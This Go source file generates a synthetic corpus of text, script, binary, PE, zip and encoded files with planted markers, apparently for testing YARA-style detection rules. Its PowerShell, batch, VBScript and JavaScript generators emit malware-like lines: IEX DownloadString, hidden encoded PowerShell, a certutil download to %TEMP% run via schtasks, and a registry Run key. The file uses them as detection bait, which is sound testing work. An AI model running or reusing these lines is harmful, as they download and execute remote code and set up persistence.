package yaragen

import (
	"archive/zip"
	"bytes"
	"encoding/base64"
	"encoding/binary"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"time"
	"unicode/utf16"
)

// Options select a corpus and rule set. The zero value is usable.
type Options struct {
	Seed  int64
	Files int // number of corpus files; default 120
	Rules int // number of rules, counting the 2 global sentinel rules; default 600
}

func (o Options) withDefaults() Options {
	if o.Files <= 0 {
		o.Files = 120
	}
	if o.Rules <= 0 {
		o.Rules = 600
	}
	return o
}

// File is one corpus file: its slash-separated path relative to the corpus
// directory and its content.
type File struct {
	Name string
	Data []byte
	// plants records what was planted where, for rules to aim at.
	plants []plant
	kind   string
	pe     *peInfo
}

// plant is one marker planted in a file: enc says how ("plain", "upper",
// "lower", "mixed", "embed", "wide", "xor", "b64", "b64wide", "sig"), off
// where (for "sig", the gap is in arg), arg any parameter (xor key, gap).
type plant struct {
	marker string
	enc    string
	off    int
	arg    int
}

// Sentinel files make the global rules fail: they match no rule at all.
const (
	sentinelGlobalSize  = 29 // starts with 'G'
	sentinelPrivateSize = 31 // starts with 'H'
)

// Files returns the corpus in memory, in file order.
func Files(o Options) []File {
	o = o.withDefaults()
	files := make([]File, o.Files)
	for i := range files {
		files[i] = genFile(o.Seed, i)
	}
	return files
}

// Corpus writes the corpus files into dir, creating it and any
// subdirectories. The content is deterministic for o.
func Corpus(dir string, o Options) error {
	for _, f := range Files(o) {
		p := filepath.Join(dir, filepath.FromSlash(f.Name))
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			return fmt.Errorf("yaragen: corpus: %w", err)
		}
		if err := os.WriteFile(p, f.Data, 0o644); err != nil {
			return fmt.Errorf("yaragen: corpus: %w", err)
		}
	}
	return nil
}

type kind struct {
	name, ext string
	gen       func(r *rng, b *builder)
}

var kinds = []kind{
	{"prose", "txt", genProse},
	{"code", "c", genCode},
	{"powershell", "ps1", genPowerShell},
	{"vbscript", "vbs", genVBScript},
	{"javascript", "js", genJavaScript},
	{"batch", "bat", genBatch},
	{"binary", "bin", genBinary},
	{"pe", "exe", genPE},
	{"zip", "zip", genZip},
	{"base64", "b64", genBase64},
	{"utf16", "txt", genUTF16},
	{"offsets", "dat", genOffsets},
	{"repeat", "txt", genRepeat},
	{"tiny", "bin", genTiny},
	{"xorblob", "bin", genXorBlob},
	{"mixed", "dat", genMixed},
	{"pe", "dll", genPE},
}

func genFile(seed int64, i int) File {
	r := newRNG(seed, uint64(i))
	var k kind
	switch i {
	case 0:
		k = kind{"empty", "txt", func(*rng, *builder) {}}
	case 1:
		k = kind{"sentinel", "txt", func(_ *rng, b *builder) {
			b.write([]byte(pad("GLOBAL-SENTINEL", sentinelGlobalSize)))
		}}
	case 2:
		k = kind{"sentinel", "txt", func(_ *rng, b *builder) {
			b.write([]byte(pad("HIDDEN-SENTINEL", sentinelPrivateSize)))
		}}
	default:
		k = kinds[(i-3)%len(kinds)]
	}
	b := &builder{}
	k.gen(r, b)
	name := fmt.Sprintf("%03d_%s.%s", i, k.name, k.ext)
	if i%10 == 9 {
		name = "nested/" + name
	}
	return File{Name: name, Data: b.buf.Bytes(), plants: b.plants, kind: k.name, pe: b.pe}
}

func pad(s string, n int) string { return s + strings.Repeat(".", n-len(s)) }

// builder accumulates a file and records its plants.
type builder struct {
	buf    bytes.Buffer
	plants []plant
	pe     *peInfo
}

func (b *builder) write(p []byte)       { b.buf.Write(p) }
func (b *builder) writeString(s string) { b.buf.WriteString(s) }
func (b *builder) len() int             { return b.buf.Len() }

func (b *builder) plantAs(marker, enc string, arg int, data []byte) {
	b.plants = append(b.plants, plant{marker: marker, enc: enc, off: b.len(), arg: arg})
	b.write(data)
}

// plantText writes a marker in one of the text encodings.
func (b *builder) plantText(r *rng, m string) {
	switch r.intn(8) {
	case 0:
		b.plantAs(m, "upper", 0, []byte(strings.ToUpper(m)))
	case 1:
		b.plantAs(m, "lower", 0, []byte(strings.ToLower(m)))
	case 2:
		b.plantAs(m, "mixed", 0, []byte(mixCase(r, m)))
	case 3:
		b.writeString(pick(r, []string{"x", "Z", "9", "_"}))
		b.plantAs(m, "embed", 0, []byte(m))
		b.writeString(pick(r, []string{"Ex", "2", "_", "q"}))
	default:
		b.writeString(pick(r, []string{" ", "(", "\"", "\n", "'"}))
		b.plantAs(m, "plain", 0, []byte(m))
		b.writeString(pick(r, []string{" ", ")", "\"", ";", "\n"}))
	}
}

func mixCase(r *rng, s string) string {
	out := []byte(s)
	for i, c := range out {
		if r.chance(50) {
			switch {
			case c >= 'a' && c <= 'z':
				out[i] = c - 32
			case c >= 'A' && c <= 'Z':
				out[i] = c + 32
			}
		}
	}
	return string(out)
}

func wide(s string) []byte {
	u := utf16.Encode([]rune(s))
	out := make([]byte, 2*len(u))
	for i, c := range u {
		binary.LittleEndian.PutUint16(out[2*i:], c)
	}
	return out
}

func xorBytes(s string, key byte) []byte {
	out := []byte(s)
	for i := range out {
		out[i] ^= key
	}
	return out
}

// xorKey favours small keys so xor(a-b) ranges get hits and misses.
func xorKey(r *rng) int {
	if r.chance(70) {
		return r.between(1, 0x30)
	}
	return r.between(1, 255)
}

func sentence(r *rng) string {
	n := r.between(4, 14)
	ws := make([]string, n)
	for i := range ws {
		ws[i] = pick(r, words)
	}
	s := strings.Join(ws, " ")
	return strings.ToUpper(s[:1]) + s[1:] + pick(r, []string{". ", ".\n", "! ", "? ", ".\n\n"})
}

func (b *builder) prose(r *rng, size, plantPercent int) {
	for b.len() < size {
		b.writeString(sentence(r))
		if r.chance(plantPercent) {
			b.plantText(r, pick(r, markers))
		}
	}
}

func genProse(r *rng, b *builder) {
	b.prose(r, sizeFor(r), 25)
	if r.chance(30) {
		b.writeString("Contact " + pick(r, emailUsers) + "@" + pick(r, hosts) + " or visit " + url(r) + "\n")
	}
}

// sizeFor picks a text size, mostly small, sometimes large.
func sizeFor(r *rng) int {
	switch {
	case r.chance(10):
		return r.between(64*1024, 200*1024)
	case r.chance(30):
		return r.between(4000, 20000)
	}
	return r.between(60, 3000)
}

func url(r *rng) string {
	return pick(r, []string{"http", "https"}) + "://" + pick(r, hosts) + "/" + pick(r, words) + "/" + pick(r, words) + pick(r, []string{".php", ".html", "", "?id=" + fmt.Sprint(r.intn(9999))})
}

func ip(r *rng) string {
	return fmt.Sprintf("%d.%d.%d.%d", pick(r, []int{10, 172, 192, 8, 203}), r.intn(256), r.intn(256), r.between(1, 254))
}

func genCode(r *rng, b *builder) {
	size := sizeFor(r)
	for b.len() < size {
		switch r.intn(7) {
		case 0:
			fmt.Fprintf(&b.buf, "int %s_%s(char *buf, size_t n) {\n", pick(r, words), pick(r, words))
		case 1:
			fmt.Fprintf(&b.buf, "    const char *url = \"%s\";\n", url(r))
		case 2:
			fmt.Fprintf(&b.buf, "    // contact: %s@%s from %s\n", pick(r, emailUsers), pick(r, hosts), ip(r))
		case 3:
			fmt.Fprintf(&b.buf, "    x = (x << %d) ^ 0x%08x; /* %s */\n", r.intn(31), uint32(r.u64()), pick(r, words))
		case 4:
			b.writeString("    p = ")
			b.plantText(r, pick(r, markers))
			b.writeString("\n")
		case 5:
			b.writeString("}\n\n")
		default:
			fmt.Fprintf(&b.buf, "    if (n > %d) { return -%d; }\n", r.intn(4096), r.intn(20))
		}
	}
}

func genPowerShell(r *rng, b *builder) {
	lines := []string{
		"$wc = New-Object Net.WebClient\r\n",
		"IEX ($wc.DownloadString('" + url(r) + "'))\r\n",
		"powershell -nop -w hidden -enc SQBFAFgA\r\n",
		"$b = [Convert]::FromBase64String($s)\r\n",
		"I`E`X (\"Invoke-Expression\")\r\n",
		"$c = [char]73+[char]69+[char]88\r\n",
		"Start-Sleep -Seconds " + fmt.Sprint(r.intn(60)) + "\r\n",
		"$env:TEMP + '\\" + pick(r, words) + ".ps1'\r\n",
		"# " + sentence(r) + "\r\n",
	}
	for n := r.between(3, 40); n > 0; n-- {
		b.writeString(pick(r, lines))
		if r.chance(15) {
			b.plantText(r, pick(r, markers))
		}
	}
}

func genVBScript(r *rng, b *builder) {
	lines := []string{
		"Set sh = CreateObject(\"WScript.Shell\")\r\n",
		"sh.Run \"cmd /c \" & Chr(99) & Chr(109) & Chr(100), 0\r\n",
		"Execute(StrReverse(\"" + reverse(sentence(r)) + "\"))\r\n",
		"Sub AutoOpen()\r\n", "End Sub\r\n",
		"Dim s: s = \"" + pick(r, words) + "\" & \"" + pick(r, words) + "\"\r\n",
		"' " + sentence(r) + "\r\n",
	}
	for n := r.between(3, 40); n > 0; n-- {
		b.writeString(pick(r, lines))
		if r.chance(15) {
			b.plantText(r, pick(r, markers))
		}
	}
}

func reverse(s string) string {
	b := []byte(s)
	for i, j := 0, len(b)-1; i < j; i, j = i+1, j-1 {
		b[i], b[j] = b[j], b[i]
	}
	return strings.TrimSpace(string(b))
}

func genJavaScript(r *rng, b *builder) {
	lines := []string{
		"var a = String.fromCharCode(" + fmt.Sprintf("%d,%d,%d", r.between(65, 90), r.between(97, 122), r.between(65, 90)) + ");\n",
		"eval(unescape('%u9090%u9090%41%42'));\n",
		"var o = new ActiveXObject(\"WScript.Shell\");\n",
		"document.location = \"" + url(r) + "\";\n",
		"function " + pick(r, words) + "(x) { return x ^ " + fmt.Sprint(r.intn(255)) + "; }\n",
		"/* " + sentence(r) + " */\n",
		"var _0x" + fmt.Sprintf("%04x", r.intn(65536)) + " = ['\\x48\\x65', '\\x6c\\x6c'];\n",
	}
	for n := r.between(3, 40); n > 0; n-- {
		b.writeString(pick(r, lines))
		if r.chance(15) {
			b.plantText(r, pick(r, markers))
		}
	}
}

func genBatch(r *rng, b *builder) {
	b.writeString("@echo off\r\n")
	lines := []string{
		"set " + pick(r, words) + "=%COMSPEC%\r\n",
		"^c^m^d /c echo " + pick(r, words) + "\r\n",
		"certutil -urlcache -split -f " + url(r) + " %TEMP%\\a.exe\r\n",
		"schtasks /create /tn " + pick(r, words) + " /tr %TEMP%\\a.exe /sc onlogon\r\n",
		"rem " + sentence(r) + "\r\n",
		"reg add HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run /v x /d y\r\n",
	}
	for n := r.between(2, 30); n > 0; n-- {
		b.writeString(pick(r, lines))
		if r.chance(15) {
			b.plantText(r, pick(r, markers))
		}
	}
}

// binaryChunk writes n random bytes with planted signatures, xor-encoded and
// wide markers.
func (b *builder) binaryChunk(r *rng, n int) {
	end := b.len() + n
	for b.len() < end {
		b.write(r.bytes(r.between(16, 2048)))
		switch r.intn(6) {
		case 0:
			k := r.intn(len(sigs))
			gap := r.intn(maxGap + 1)
			b.plantAs(fmt.Sprint(k), "sig", gap, sigs[k][0])
			b.write(r.bytes(gap))
			b.write(sigs[k][1])
		case 1:
			m := pick(r, markers)
			key := xorKey(r)
			b.plantAs(m, "xor", key, xorBytes(m, byte(key)))
		case 2:
			m := pick(r, markers)
			b.plantAs(m, "wide", 0, wide(m))
		case 3:
			m := pick(r, markers)
			b.write([]byte{0})
			b.plantAs(m, "plain", 0, []byte(m))
			b.write([]byte{0})
		}
	}
}

func genBinary(r *rng, b *builder) {
	n := r.between(64, 16*1024)
	if r.chance(12) {
		n = r.between(64*1024, 256*1024-4096)
	}
	b.binaryChunk(r, n)
}

func genXorBlob(r *rng, b *builder) {
	key := byte(xorKey(r))
	var t builder
	t.prose(r, r.between(200, 6000), 40)
	data := t.buf.Bytes()
	for _, p := range t.plants {
		if p.enc == "plain" {
			b.plants = append(b.plants, plant{marker: p.marker, enc: "xor", off: p.off, arg: int(key)})
		}
	}
	for i := range data {
		data[i] ^= key
	}
	b.write(data)
}

func genZip(r *rng, b *builder) {
	zw := zip.NewWriter(&b.buf)
	for n := r.between(1, 4); n > 0; n-- {
		var t builder
		t.prose(r, r.between(100, 5000), 30)
		method := zip.Deflate
		if r.chance(50) {
			method = zip.Store
		}
		w, err := zw.CreateHeader(&zip.FileHeader{
			Name:     pick(r, words) + fmt.Sprintf("%d.txt", n),
			Method:   method,
			Modified: time.Date(2024, 3, 1, 12, 0, 0, 0, time.UTC),
		})
		if err != nil {
			panic(err) // writing to memory cannot fail
		}
		w.Write(t.buf.Bytes())
	}
	zw.SetComment("athena corpus")
	if err := zw.Close(); err != nil {
		panic(err)
	}
}

func genBase64(r *rng, b *builder) {
	var t builder
	t.prose(r, r.between(100, 8000), 40)
	enc := base64.StdEncoding.EncodeToString(t.buf.Bytes())
	if r.chance(40) {
		// Wrapped lines: markers may straddle a line break.
		for len(enc) > 76 {
			b.writeString(enc[:76] + "\n")
			enc = enc[76:]
		}
		b.writeString(enc + "\n")
		return
	}
	for _, p := range t.plants {
		if p.enc == "plain" {
			b.plants = append(b.plants, plant{marker: p.marker, enc: "b64"})
		}
	}
	b.writeString("data=" + enc + "\n")
}

func genUTF16(r *rng, b *builder) {
	var t builder
	t.prose(r, r.between(100, 12000), 30)
	if r.chance(50) {
		b.write([]byte{0xFF, 0xFE})
	}
	base := b.len()
	for _, p := range t.plants {
		p.enc, p.off = "wide", base+2*p.off
		b.plants = append(b.plants, p)
	}
	b.write(wide(t.buf.String()))
}

// genOffsets plants markers at the start, across the 4 KiB and 64 KiB
// boundaries and at the end of a filler.
func genOffsets(r *rng, b *builder) {
	size := pick(r, []int{4096 + r.intn(200), 8192 + r.intn(4096), 65536 + r.intn(300), 70000 + r.intn(60000), 256*1024 - r.intn(4096)})
	filler := r.intn(3)
	fill := func(n int) {
		switch filler {
		case 0:
			b.write(make([]byte, n))
		case 1:
			b.write(r.bytes(n))
		default:
			b.write(bytes.Repeat([]byte(pick(r, words)+" "), n)[:n])
		}
	}
	m := pick(r, markers)
	b.plantAs(m, "plain", 0, []byte(m))
	for _, boundary := range []int{4096, 65536} {
		m := pick(r, markers)
		at := boundary - r.between(1, len(m)-1)
		if at+len(m) > size-40 {
			break
		}
		fill(at - b.len())
		b.plantAs(m, "plain", 0, []byte(m))
	}
	m = pick(r, markers)
	if size-len(m) > b.len() {
		fill(size - len(m) - b.len())
	}
	b.plantAs(m, "plain", 0, []byte(m))
}

func genRepeat(r *rng, b *builder) {
	for n := r.between(1, 6); n > 0; n-- {
		switch r.intn(5) {
		case 0:
			b.write(bytes.Repeat([]byte("a"), r.between(3, 400)))
		case 1:
			b.write(bytes.Repeat([]byte("ab"), r.between(2, 200)))
		case 2:
			b.write(bytes.Repeat([]byte("aaXaa"), r.between(1, 100)))
		case 3:
			b.write(bytes.Repeat([]byte{0}, r.between(4, 600)))
		default:
			b.write(bytes.Repeat([]byte{0x90}, r.between(4, 300)))
		}
		b.writeString(pick(r, []string{"\n", " b ", "|", "A"}))
	}
}

func genTiny(r *rng, b *builder) {
	n := r.between(1, 24)
	if r.chance(50) {
		for i := 0; i < n; i++ {
			b.write([]byte{byte(r.between(0x20, 0x7E))})
		}
		return
	}
	b.write(r.bytes(n))
}

func genMixed(r *rng, b *builder) {
	b.prose(r, r.between(100, 3000), 30)
	for n := r.between(1, 4); n > 0; n-- {
		switch r.intn(3) {
		case 0:
			m := pick(r, markers)
			var t builder
			t.prose(r, r.between(10, 200), 0)
			t.writeString(" " + m + " ")
			b.plants = append(b.plants, plant{marker: m, enc: "b64wide"})
			b.write(wide(base64.StdEncoding.EncodeToString(t.buf.Bytes())))
		case 1:
			m := pick(r, markers)
			b.plantAs(m, "wide", 0, wide(m))
		default:
			b.binaryChunk(r, r.between(100, 3000))
		}
		b.prose(r, b.len()+r.between(50, 500), 20)
	}
}
